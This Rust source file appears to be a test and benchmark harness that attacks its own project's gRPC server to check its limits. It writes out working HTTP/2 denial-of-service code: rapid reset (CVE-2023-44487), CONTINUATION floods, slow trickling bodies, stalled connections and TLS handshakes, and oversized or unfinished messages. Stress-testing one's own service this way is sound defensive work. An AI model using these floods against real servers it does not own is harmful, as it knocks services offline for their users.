//! What hostile callers do. Each goes on until it is through, whatever the server does to its connections.

#![allow(dead_code, reason = "the tests take one at a time, the benchmark all")]

use std::convert::Infallible;
use std::fmt;
use std::pin::Pin;
use std::task::{Context, Poll};
use std::time::Duration;

use http_body::Frame;
use prost::bytes::Bytes;
use tokio::sync::mpsc;
use tokio::task::JoinSet;
use tonic::Code;
use tonic::body::Body;
use tonic::transport::{Channel, Endpoint};
use tower::{Service, ServiceExt};

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, RawConnection, call_headers, frame, message,
};

const CROSS_SELL: &str = "/tactful.v1.OfferService/CrossSell";
const RECORD_EVENTS: &str = "/tactful.v1.FeedbackService/RecordEvents";
pub const STREAM_EVENTS: &str = "/tactful.v1.FeedbackService/StreamEvents";
/// What one connection may have at once.
const STREAMS_MAX: usize = 128;
/// The largest message that is taken.
const MESSAGE_BYTES_MAX: usize = 4 << 20;
/// How long to wait for the end of a connection that was misused.
const CLOSED_WITHIN: Duration = Duration::from_secs(5);
/// Frames written in one go.
const BURST: u64 = 200;

/// The table of threats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Threat {
    /// Calls begun and reset at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (VU#421644).
    ContinuationFlood,
    /// Calls begun and left, on one connection.
    ManyStreams,
    /// Connections that say nothing.
    SilentConnections,
    /// Connections that say one byte.
    OneByteConnections,
    /// As many calls as places, each sending a byte a second.
    SlowBodies,
    /// Streams of events that bring none.
    IdleStreams,
    /// Messages of 5 MB.
    HugeMessages,
    /// Messages of the largest size that are never whole.
    UnfinishedMessages,
    /// Messages of the largest size, of empty entries.
    EmptyEntries,
    /// TLS handshakes that stall.
    StalledHandshakes,
}

impl Threat {
    pub const ALL: [Self; 11] = [
        Self::RapidReset,
        Self::ContinuationFlood,
        Self::ManyStreams,
        Self::SilentConnections,
        Self::OneByteConnections,
        Self::SlowBodies,
        Self::IdleStreams,
        Self::HugeMessages,
        Self::UnfinishedMessages,
        Self::EmptyEntries,
        Self::StalledHandshakes,
    ];
}

impl fmt::Display for Threat {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(match self {
            Self::RapidReset => "rapid reset",
            Self::ContinuationFlood => "CONTINUATION flood",
            Self::ManyStreams => "streams on one connection",
            Self::SilentConnections => "silent connections",
            Self::OneByteConnections => "connections of one byte",
            Self::SlowBodies => "a byte a second",
            Self::IdleStreams => "idle streams",
            Self::HugeMessages => "messages of 5 MB",
            Self::UnfinishedMessages => "unfinished messages",
            Self::EmptyEntries => "empty entries",
            Self::StalledHandshakes => "stalled TLS handshakes",
        })
    }
}

/// How much of it.
#[derive(Debug, Clone, Copy)]
pub struct Size {
    /// Frames of the floods.
    pub frames: u64,
    /// Streams begun on one connection.
    pub streams: u64,
    pub connections: usize,
    /// Calls that trickle or idle.
    pub calls: usize,
    /// Messages that are too large in one way or another.
    pub messages: usize,
    /// How long what stays stays.
    pub hold: Duration,
}

impl Size {
    pub const SHORT: Self = Self {
        frames: 10_000,
        streams: 2_000,
        connections: 200,
        calls: 200,
        messages: 12,
        hold: Duration::from_secs(2),
    };
    pub const LONG: Self = Self {
        frames: 100_000,
        streams: 50_000,
        connections: 2_000,
        calls: 1_100,
        messages: 100,
        hold: Duration::from_secs(8),
    };
}

/// What came of an attack.
#[derive(Debug, Default)]
pub struct Outcome {
    /// Connections that the server closed before the attacker did.
    pub closed: usize,
    /// Streams that the server reset.
    pub reset: u64,
    /// How messages were answered.
    pub codes: Vec<Code>,
}

/// Carries out an attack.
pub async fn attack(threat: Threat, address: &str, size: Size) -> Outcome {
    match threat {
        Threat::RapidReset => rapid_reset(address, size.frames).await,
        Threat::ContinuationFlood => continuation_flood(address, size.frames).await,
        Threat::ManyStreams => many_streams(address, size).await,
        Threat::SilentConnections => stalled_connections(address, size, &[]).await,
        Threat::OneByteConnections => stalled_connections(address, size, b"P").await,
        // A record of a handshake that says to be longer than what follows.
        Threat::StalledHandshakes => stalled_connections(address, size, &[22, 3, 1, 2, 0, 1]).await,
        Threat::SlowBodies => slow_bodies(address, size, CROSS_SELL, true).await,
        Threat::IdleStreams => slow_bodies(address, size, STREAM_EVENTS, false).await,
        Threat::HugeMessages => messages(address, size, &message(&vec![0; 5 << 20])).await,
        Threat::EmptyEntries => {
            let empty_event = [0x0a, 0];
            messages(address, size, &message(&empty_event.repeat(MESSAGE_BYTES_MAX / empty_event.len()))).await
        }
        Threat::UnfinishedMessages => unfinished_messages(address, size).await,
    }
}

async fn rapid_reset(address: &str, frames: u64) -> Outcome {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let headers = call_headers(CROSS_SELL);
    flood(address, frames / 2, |stream| {
        let begin = frame(HEADERS, END_HEADERS | END_STREAM, stream, &headers);
        [begin, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    })
    .await
}

async fn continuation_flood(address: &str, frames: u64) -> Outcome {
    let headers = call_headers(CROSS_SELL);
    // A literal that is not to be indexed: "a: ".
    let more = [0x00, 1, b'a', 0].repeat(250);
    flood(address, frames, |stream| match stream {
        1 => frame(HEADERS, 0, 1, &headers),
        _ => frame(CONTINUATION, 0, 1, &more),
    })
    .await
}

/// As many times what `next` makes of the numbers of streams, over new connections when one is closed.
async fn flood(address: &str, times: u64, next: impl Fn(u32) -> Vec<u8>) -> Outcome {
    let mut outcome = Outcome::default();
    let mut sent = 0;
    while sent < times {
        let Ok(mut connection) = RawConnection::open(address).await else { continue };
        let mut stream = 1;
        while sent < times && !connection.is_closed() {
            let burst = BURST.min(times - sent);
            let bytes: Vec<u8> =
                (0..burst).flat_map(|place| next(stream + 2 * u32::try_from(place).unwrap_or(0))).collect();
            stream += 2 * u32::try_from(burst).unwrap_or(0);
            sent += burst;
            if connection.send(&bytes).await.is_err() {
                break;
            }
            tokio::task::yield_now().await;
        }
        // The server may still be reading what was sent.
        outcome.closed += usize::from(tokio::time::timeout(CLOSED_WITHIN, connection.closed()).await.is_ok());
    }
    outcome
}

async fn many_streams(address: &str, size: Size) -> Outcome {
    let headers = call_headers(CROSS_SELL);
    let mut outcome = Outcome::default();
    let mut kept = Vec::new();
    let mut begun = 0;
    while begun < size.streams {
        let Ok(mut connection) = RawConnection::open(address).await else { continue };
        let mut stream = 1;
        while begun < size.streams && !connection.is_closed() {
            let burst = BURST.min(size.streams - begun);
            let bytes: Vec<u8> = (0..burst)
                .flat_map(|place| frame(HEADERS, END_HEADERS, stream + 2 * u32::try_from(place).unwrap_or(0), &headers))
                .collect();
            stream += 2 * u32::try_from(burst).unwrap_or(0);
            begun += burst;
            if connection.send(&bytes).await.is_err() {
                break;
            }
            tokio::task::yield_now().await;
        }
        kept.push(connection);
    }
    tokio::time::sleep(size.hold).await;
    outcome.closed = kept.iter().filter(|connection| connection.is_closed()).count();
    outcome.reset = kept.iter().map(|connection| connection.came(RST_STREAM)).sum();
    outcome
}

/// Connections that begin with some bytes and then say no more.
async fn stalled_connections(address: &str, size: Size, bytes: &[u8]) -> Outcome {
    let mut connections = Vec::new();
    for _ in 0..size.connections {
        let Ok(mut connection) = RawConnection::silent(address).await else { continue };
        // One that is closed already is counted below.
        let _closed = connection.send(bytes).await;
        connections.push(connection);
    }
    let all_closed = async {
        for connection in &mut connections {
            connection.closed().await;
        }
    };
    // The server closes them after five seconds.
    let _in_time = tokio::time::timeout(Duration::from_secs(20), all_closed).await;
    Outcome { closed: connections.iter().filter(|connection| connection.is_closed()).count(), ..Outcome::default() }
}

/// Calls whose bodies trickle in, or do not come at all.
async fn slow_bodies(address: &str, size: Size, path: &str, trickles: bool) -> Outcome {
    let headers = call_headers(path);
    let mut connections = Vec::new();
    for first in (0..size.calls).step_by(STREAMS_MAX) {
        let Ok(mut connection) = RawConnection::open(address).await else { continue };
        let calls = STREAMS_MAX.min(size.calls - first);
        let streams: Vec<u32> = (0..u32::try_from(calls).expect("few")).map(|place| 2 * place + 1).collect();
        let begin = |&stream: &u32| {
            let prefix = if trickles { frame(DATA, 0, stream, &[0, 0, 0, 1, 0]) } else { Vec::new() };
            [frame(HEADERS, END_HEADERS, stream, &headers), prefix].concat()
        };
        let _closed = connection.send(&streams.iter().flat_map(begin).collect::<Vec<u8>>()).await;
        connections.push((connection, streams));
    }
    let ends = tokio::time::Instant::now() + size.hold;
    let mut seconds = tokio::time::interval(Duration::from_secs(1));
    while tokio::time::Instant::now() < ends {
        seconds.tick().await;
        for (connection, streams) in connections.iter_mut().filter(|_| trickles) {
            let bytes: Vec<u8> = streams.iter().flat_map(|&stream| frame(DATA, 0, stream, &[0])).collect();
            let _closed = connection.send(&bytes).await;
        }
    }
    Outcome::default()
}

/// Calls with this body, four at a time.
async fn messages(address: &str, size: Size, body: &[u8]) -> Outcome {
    let body = Bytes::copy_from_slice(body);
    let mut outcome = Outcome::default();
    let channel = connect(address).await;
    for _ in (0..size.messages).step_by(4) {
        let mut calls = JoinSet::new();
        for _ in 0..4 {
            let (send, chunks) = mpsc::channel(1);
            send.try_send(body.clone()).expect("there is room for one");
            calls.spawn(call(channel.clone(), RECORD_EVENTS, chunks));
        }
        outcome.codes.extend(calls.join_all().await);
    }
    outcome
}

/// Uploads of which the last byte does not come.
async fn unfinished_messages(address: &str, size: Size) -> Outcome {
    let prefix = u32::try_from(MESSAGE_BYTES_MAX).expect("it fits").to_be_bytes();
    let body = [&[0][..], &prefix, &vec![0; MESSAGE_BYTES_MAX - 1]].concat();
    let body = Bytes::from(body);
    let mut calls = JoinSet::new();
    let mut open = Vec::new();
    for _ in 0..size.messages {
        let channel = connect(address).await;
        let (send, chunks) = mpsc::channel(1);
        send.try_send(body.clone()).expect("there is room for one");
        open.push(send);
        calls.spawn(call(channel, STREAM_EVENTS, chunks));
    }
    tokio::time::sleep(size.hold).await;
    drop(open);
    Outcome { codes: calls.join_all().await, ..Outcome::default() }
}

async fn connect(address: &str) -> Channel {
    Endpoint::from_shared(format!("http://{address}")).expect("a URI").connect().await.expect("it listens")
}

/// How a call with a body of any bytes is answered.
pub async fn call(mut channel: Channel, path: &str, chunks: mpsc::Receiver<Bytes>) -> Code {
    let request = http::Request::post(path)
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(Body::new(Chunks(chunks)))
        .expect("a request");
    let Ok(ready) = channel.ready().await else { return Code::Unavailable };
    let Ok(answer) = ready.call(request).await else { return Code::Unavailable };
    let in_headers = answer.headers().get("grpc-status").cloned();
    let mut body = answer.into_body();
    let mut status = in_headers;
    while let Some(Ok(frame)) = std::future::poll_fn(|cx| http_body::Body::poll_frame(Pin::new(&mut body), cx)).await {
        if let Some(trailers) = frame.trailers_ref() {
            status = status.or_else(|| trailers.get("grpc-status").cloned());
        }
    }
    status.map_or(Code::Unknown, |status| Code::from_bytes(status.as_bytes()))
}

/// A body that is what comes in.
struct Chunks(mpsc::Receiver<Bytes>);

impl http_body::Body for Chunks {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        self.0.poll_recv(cx).map(|chunk| chunk.map(|chunk| Ok(Frame::data(chunk))))
    }
}
